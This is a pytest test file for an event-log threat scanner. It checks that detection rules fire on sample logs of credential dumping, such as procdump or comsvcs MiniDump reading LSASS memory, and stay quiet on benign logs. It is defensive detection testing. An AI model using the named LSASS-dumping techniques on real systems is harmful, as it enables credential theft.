    ("sbousseaden__sysmon_10_11_lsass_memdump.evtx", {"CRED-DUMPFILE", "CRED-LSASS-ACCESS"},
     "procdump and taskmgr open lsass via dbghelp and write lsass*.dmp (no Sysmon 1 for CRED-PROCDUMP)"),
    ("sbousseaden__sysmon_10_1_memdump_comsvcs_minidump.evtx", {"CRED-COMSVCS"},
     "rundll32 comsvcs MiniDump of notepad (not lsass, so no access/dump-file finding; the dump is .bin)"),
    ("sbousseaden__tunna_iis_rdp_smb_tunneling_sysmon_3.evtx", set(),
     "Sysmon 3 network connections only: no network rule"),
]

#: Findings accepted on benign files: account administration in the Security log (low).
BENIGN_ACCEPTED = {
    "omerbenamram__security.evtx": {"ACCT-GROUP-ADD", "ACCT-USER-CREATED"},
}


def test_every_malicious_sample_is_listed(samples: Path) -> None:
    assert {p.name for p in (samples / "evtx" / "malicious").glob("*.evtx")} == {name for name, _, _ in MALICIOUS}


@pytest.mark.parametrize(("name", "expected", "reason"), MALICIOUS, ids=[name for name, _, _ in MALICIOUS])
def test_malicious_sample(samples: Path, name: str, expected: set[str], reason: str) -> None:
    result = scan([str(samples / "evtx" / "malicious" / name)])
    assert {f.rule.id for f in result.findings} == expected, reason
    assert result.diagnostics == ()
    if expected:
        assert result.hosts[0].stage is Stage.COMPROMISED


BENIGN = ["deepbluecli_via_hayabusa__many-events-application.evtx", "omerbenamram__security.evtx",
          "omerbenamram__sysmon.evtx", "omerbenamram__system.evtx"]


#: A System log alone assesses no CVE: such a host's stage is unknown, not clean.
ASSESSES_NOTHING = {"omerbenamram__system.evtx"}


@pytest.mark.parametrize("name", BENIGN)
def test_benign_sample_has_nothing_above_low(samples: Path, name: str) -> None:
    result = scan([str(samples / "evtx" / "benign" / name)])
    assert all(f.rule.level <= Level.LOW for f in result.findings)
    assert {f.rule.id for f in result.findings} == BENIGN_ACCEPTED.get(name, set())
    # low findings (the accepted account changes) make a host "probed" at most; none leave it clean
    expected = Stage.PROBED if name in BENIGN_ACCEPTED else Stage.UNKNOWN if name in ASSESSES_NOTHING else Stage.CLEAN
    assert result.hosts[0].stage is expected


def test_an_item_named_like_a_system_field_does_not_move_the_event_to_another_log(samples: Path) -> None:
    """System event 104 says which log was cleared in ``UserData/LogFileCleared/Channel``: the event is still
    in the System log, and a cleared Sysmon log is no Sysmon evidence (it had made a System log look like
    Sysmon coverage, and the host clean)."""
    path = samples / "evtx" / "benign" / "omerbenamram__system.evtx"
    with path.open("rb") as stream:
        records = [r for r in evtx.read(stream, FileDiagnostics("system.evtx"), FileFacts())
                   if r.fields["EventID"] == "104"]
    assert records and {r.fields["Channel"] for r in records} == {"System"}
    assert {r.fields["UserData_Channel"] for r in records} == {"Microsoft-Windows-Sysmon/Operational"}
    assert "Microsoft-Windows-Sysmon/Operational" in records[0].raw  # keyword rules still see it
    assert [c.kind for c in scan([str(path)]).hosts[0].coverage] == ["evtx", "evtx:System"]


def test_low_findings_move_a_benign_host_to_probed_only(samples: Path) -> None:
    result = scan([str(samples / "evtx" / "benign" / "omerbenamram__security.evtx")])
    assert {str(f.rule.level) for f in result.findings} == {"low"}
    assert result.hosts[0].stage is Stage.PROBED


def test_benign_sysmon_lsass_accesses_stay_quiet(samples: Path) -> None:
    diags = FileDiagnostics("sysmon.evtx")
    with (samples / "evtx" / "benign" / "omerbenamram__sysmon.evtx").open("rb") as stream:
        records = list(evtx.read(stream, diags, FileFacts()))
    lsass = [r for r in records
             if r.fields.get("EventID") == "10" and r.fields.get("TargetImage", "").endswith("lsass.exe")]
    sources = {r.fields["SourceImage"].rsplit("\\", 1)[-1].lower() for r in lsass}
    assert sources >= {"svchost.exe", "procmon64.exe"}
    assert not any(fired(r) for r in lsass)


def test_bad_chunk_file_keeps_its_readable_records(samples: Path) -> None:
    result = scan([str(samples / "evtx" / "parser_edge" / "omerbenamram__sample_with_a_bad_chunk_magic.evtx")])
    coverage = {c.kind: c for c in result.hosts[0].coverage}
    assert coverage["evtx"].records == 270
    assert [d.code for d in result.diagnostics].count("EXH-R010") == 2
    assert not result.findings


def test_a_rule_admits_only_the_event_ids_its_condition_requires() -> None:
    """The channels of an event-log rule narrow to the ``EventID`` values every match must have."""
    channels = {rule.name: rule.channels for rule in shipped_rules().for_kind("evtx")}
    assert channels["ACCT-USER-CREATED"] == {"Security": frozenset({4720})}
    assert channels["ACCT-GROUP-ADD"] == {"Security": frozenset({4728, 4732, 4756})}
    assert channels["PL-26857-1"] == {"Application": None}  # no EventID in its condition
    from exhunt.engine.rules import compile_files
    from test_sigma_engine import RULE

    def admitted(detection: str) -> frozenset[int] | None:
        text = RULE.format(detection=f"  {detection}").replace("{product: exchange, service: httpproxy}",
                                                             "{product: windows, service: security}")
        return compile_files([("r.yml", text)]).rules[0].channels["Security"]

    assert admitted("a: {EventID: 4624}\n  b: {EventID: [4625, '4771']}\n  condition: a or b") == {4624, 4625, 4771}
    assert admitted("a: {EventID: [4624, 4625]}\n  b: {EventID: 4625}\n  condition: a and b") == {4625}
    # a branch without an event ID, a pattern or a negation says nothing about the ID
    assert admitted("a: {EventID: 4624}\n  b: {LogonType: 3}\n  condition: a or b") is None
    assert admitted("a: {EventID|startswith: '46'}\n  condition: a") is None
    assert admitted("a: {EventID: 4624}\n  condition: not a") is None


def test_events_no_rule_reads_are_counted_but_not_flattened(samples: Path) -> None:
    """An event that no rule admits by channel and event ID is counted (records, times, logs, computers) and
    not yielded; findings and coverage are those of flattening every event (``--no-prefilter``)."""
    path = samples / "evtx" / "benign" / "omerbenamram__security.evtx"
    gated, every = FileFacts(), FileFacts()
    with path.open("rb") as stream:
        kept = list(evtx.read(stream, FileDiagnostics("s.evtx"), gated, lambda _, event_id: event_id == "4624"))
    with path.open("rb") as stream:
        records = list(evtx.read(stream, FileDiagnostics("s.evtx"), every))
    assert kept == [r for r in records if r.fields["EventID"] == "4624"] and 0 < len(kept) < len(records)
    assert (gated.records, gated.first, gated.last, gated.parts, gated.servers) == \
        (every.records, every.first, every.last, every.parts, every.servers)

    def outcome(prefilter: bool) -> object:
        result = scan([str(samples / "evtx")], prefilter=prefilter)
        return (sorted((f.source, f.line, f.rule.id) for f in result.findings),
                sorted((h.host, c.kind, c.records, str(c.first), str(c.last)) for h in result.hosts
                       for c in h.coverage), [(h.host, h.stage) for h in result.hosts])

    on = outcome(True)
    assert on == outcome(False) and on[0]
